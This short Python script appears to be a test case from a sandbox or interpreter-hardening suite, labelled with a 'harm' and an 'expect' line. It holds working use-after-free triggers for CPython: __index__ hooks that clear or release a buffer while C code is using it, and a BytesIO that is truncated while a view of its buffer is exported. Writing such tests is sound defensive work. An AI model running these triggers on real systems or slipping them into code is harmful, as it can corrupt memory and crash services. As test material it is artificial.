# harm: objects that shrink a buffer while C code uses it give a view of freed memory
# expect: completed failed limit
import array, io
class Index:
    def __init__(self, target): self.target = target
    def __index__(self):
        self.target.clear()
        return 5
    def __del__(self): pass
for make in (lambda: bytearray(b"x" * 1000), lambda: array.array("b", b"x" * 1000)):
    target = make()
    for attack in (lambda: target.__setitem__(slice(0, Index(target)), b"yyyy"),
                   lambda: target.insert(Index(target), 65),
                   lambda: target.pop(Index(target)),
                   lambda: target.extend(Index(target) for _ in range(10))):
        target = make()
        try:
            attack()
        except Exception:
            pass
view = memoryview(bytearray(100))
class Evil:
    def __index__(self):
        view.release()
        return 1
try:
    view[Evil()] = Evil()
except Exception:
    pass
stream = io.BytesIO(b"x" * 1000)
export = stream.getbuffer()
for use in (lambda: stream.truncate(0), lambda: stream.write(b"z" * 10000), stream.close):
    try:
        use()
    except Exception:
        pass
bytes(export)[:10]
